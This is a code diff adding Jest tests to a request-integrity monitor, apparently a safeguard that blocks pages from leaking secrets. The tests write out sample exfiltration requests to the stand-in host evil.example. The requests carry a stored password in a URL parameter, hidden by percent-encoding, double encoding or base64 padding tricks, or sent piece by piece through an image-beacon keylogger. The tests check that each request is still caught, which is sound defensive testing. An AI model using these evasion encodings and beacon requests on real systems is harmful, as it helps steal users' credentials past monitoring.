@@ -80,4 +80,42 @@ describe('RunIntegrity.blockedRequest', () => {
     expect(i.clean).toBe(false);
     expect(i.summary()).toMatch(/a request was blocked .*evil\.example.*it carried a parameter value/);
   });
+
+  describe('the ways around it a reviewer tried (each must still taint)', () => {
+    let now = 5_000_000;
+    const clock = () => now;
+    const secret = 'hunter2-Secret';
+    const c = new BlockCauses(['acct>>secret?'], clock);
+    c.protect([secret]);
+
+    it("a stored credential the page sends, whenever it sends it (not only the request's parameters)", () => {
+      expect(c.causeOf(sub({ url: `https://evil.example/c?p=${secret}` }))).toMatch(/parameter value/);
+    });
+
+    it('percent-encoding beside a stray %, encoding twice, and standard base64 with + in it', () => {
+      const pct = [...secret].map((ch) => `%${ch.charCodeAt(0).toString(16)}`).join('');
+      expect(c.causeOf(sub({ url: `https://evil.example/c?x=${pct}&y=%` }))).toMatch(/parameter value/);
+      expect(c.causeOf(sub({ url: `https://evil.example/c?x=${encodeURIComponent(encodeURIComponent(secret))}` }))).toMatch(
+        /parameter value/,
+      );
+      const b64 = Buffer.from('acct>>secret?').toString('base64');
+      expect(b64).toContain('+');
+      expect(c.causeOf(sub({ method: 'POST', body: `d=${b64}` }))).toMatch(/parameter value/);
+    });
+
+    it('base64 of a value wrapped in control bytes, and behind many harmless base64 runs', () => {
+      const wrapped = Buffer.from(`\x01${secret}\x02`, 'latin1').toString('base64');
+      expect(c.causeOf(sub({ method: 'POST', body: `d=${wrapped}` }))).toMatch(/parameter value/);
+      const padding = Array.from({ length: 60 }, (_, i) => Buffer.from(`harmless text ${i}`).toString('base64')).join('&');
+      expect(c.causeOf(sub({ method: 'POST', body: `${padding}&d=${Buffer.from(secret).toString('base64')}` }))).toMatch(/parameter value/);
+    });
+
+    it('an image beacon with a query while a tool acts (a keylogger sending pieces), and a body too long to read whole', () => {
+      c.actionStarted();
+      expect(c.causeOf(sub({ resourceType: 'image', url: 'https://evil.example/k.gif?k=hun' }))).toMatch(/tool acted/);
+      c.actionEnded();
+      now += SETTLE_GRACE_MS + 1;
+      expect(c.causeOf(sub({ method: 'POST', body: 'x'.repeat(100), bodyCut: true }))).toMatch(/too long/);
+    });
+  });
 });
